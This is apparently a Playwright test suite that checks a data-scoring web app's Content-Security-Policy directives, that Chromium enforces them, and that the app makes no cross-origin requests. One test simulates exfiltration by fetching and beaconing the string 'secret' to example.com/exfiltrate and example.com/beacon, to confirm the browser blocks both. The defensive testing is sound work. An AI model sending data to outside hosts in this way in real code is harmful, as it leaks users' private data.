/**
 * A locked-down page: the Content-Security-Policy is present with the directives issue 4 names, Chromium
 * enforces it, the app works under it without a single violation or console error, and no request leaves the
 * site's origin at load or while scoring (every request of the browser context is recorded; foreign ones are
 * blocked and fail the test).
 */
import { expect, test } from '@playwright/test';
import { watchTrouble } from '../fixtures/browser';
import { downloadPredictions, makeCsv, openApp, pickFile } from './helpers';

/** The policy's directives, as name -> sources. */
function directives(policy: string): Map<string, string[]> {
  const map = new Map<string, string[]>();
  for (const part of policy.split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) map.set(name.toLowerCase(), sources);
  }
  return map;
}

test('the page carries the strict policy issue 4 asks for', async ({ page }) => {
  await page.goto('./');
  const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(meta).toHaveCount(1);
  const policy = directives((await meta.getAttribute('content')) ?? '');
  expect(policy.get('default-src')).toEqual(["'self'"]);
  expect(policy.get('script-src')).toEqual(["'self'", "'wasm-unsafe-eval'"]);
  expect(policy.get('connect-src')).toEqual(["'self'"]);
  expect(policy.get('object-src')).toEqual(["'none'"]);
  expect(policy.get('base-uri')).toEqual(["'none'"]);
  // Whatever else is allowed, never inline or eval'd script, and no other origin anywhere.
  for (const [name, sources] of policy) {
    expect(sources, name).not.toContain("'unsafe-eval'");
    if (name.startsWith('script')) expect(sources, name).not.toContain("'unsafe-inline'");
    for (const source of sources) expect(source, `${name} ${source}`).not.toMatch(/^(https?:|\*|ws)/);
  }
  // The meta tag comes before anything it must govern.
  const order = await page.evaluate(() =>
    [...document.head.children].map((el) => el.getAttribute('http-equiv') ?? el.tagName.toLowerCase()),
  );
  const at = order.indexOf('Content-Security-Policy');
  expect(at).toBeGreaterThanOrEqual(0);
  expect(order.slice(0, at).filter((t) => t === 'script' || t === 'link' || t === 'style')).toEqual([]);
});

test('Chromium enforces it: inline script, eval and foreign fetches are blocked', async ({ page }) => {
  const trouble = await watchTrouble(page);
  await openApp(page);
  const outcome = await page.evaluate(async () => {
    const w = globalThis as unknown as { __inline?: boolean };
    const script = document.createElement('script');
    script.textContent = 'window.__inline = true';
    document.body.append(script);
    // A string timer is compiled by the page itself (code run through DevTools, like this function, is exempt).
    const w2 = globalThis as unknown as { __evalRan?: boolean };
    (setTimeout as unknown as (code: string, ms: number) => number)('window.__evalRan = true', 0);
    await new Promise((resolve) => setTimeout(resolve, 100));
    const evalBlocked = w2.__evalRan !== true;
    let fetchBlocked = false;
    try {
      await fetch('https://example.com/exfiltrate', { method: 'POST', body: 'secret' });
    } catch {
      fetchBlocked = true;
    }
    navigator.sendBeacon('https://example.com/beacon', 'secret');
    return { inline: w.__inline === true, evalBlocked, fetchBlocked };
  });
  expect(outcome.inline).toBe(false);
  expect(outcome.evalBlocked).toBe(true);
  expect(outcome.fetchBlocked).toBe(true);
  // sendBeacon only queues (it returns true); the policy stops it when it is sent, and says so.
  await expect
    .poll(async () => (await trouble.violations()).join('\n'))
    .toContain('https://example.com/beacon');
  const seen = (await trouble.violations()).join('\n');
  expect(seen).toContain('script-src');
  expect(seen).toContain('connect-src blocked https://example.com/exfiltrate');
});

test('the app loads and scores under the policy with no violation, no console error, no foreign request', async ({
  page,
  context,
  baseURL,
}) => {
  const origin = new URL(baseURL!).origin;
  const seen: string[] = [];
  const foreign: string[] = [];
  // Context-wide: the page, its workers and the service worker.
  await context.route('**/*', async (route) => {
    const url = route.request().url();
    seen.push(url);
    if (url.startsWith(`${origin}/`)) await route.continue();
    else {
      foreign.push(url);
      await route.abort('blockedbyclient');
    }
  });
  context.on('request', (request) => seen.push(request.url()));
  page.on('worker', (worker) => seen.push(worker.url()));
  const trouble = await watchTrouble(page);

  await openApp(page);
  await page.getByRole('button', { name: 'Try a sample' }).click();
  await expect(page.getByRole('heading', { name: 'Results for sample.csv' })).toBeVisible();
  await pickFile(page, 'private.csv', makeCsv({ rows: 2000, seed: 21, target: true }));
  await expect(page.getByTestId('rows-scored')).toHaveText('2,000');
  await downloadPredictions(page);
  const affected = page.getByRole('link', { name: 'Download the list of affected rows' });
  expect(await affected.count()).toBe(0);

  expect(seen.length).toBeGreaterThan(3);
  // The model and the runtime really were fetched, from the origin.
  expect(seen.some((u) => u.endsWith('.onnx'))).toBe(true);
  expect(seen.some((u) => u.endsWith('.wasm'))).toBe(true);
  const outside = seen.filter((u) => !u.startsWith(`${origin}/`) && !/^(blob|data):/.test(u));
  expect(outside).toEqual([]);
  expect(foreign).toEqual([]);
  expect(await trouble.violations()).toEqual([]);
  expect(trouble.consoleErrors).toEqual([]);
  expect(trouble.pageErrors).toEqual([]);
});
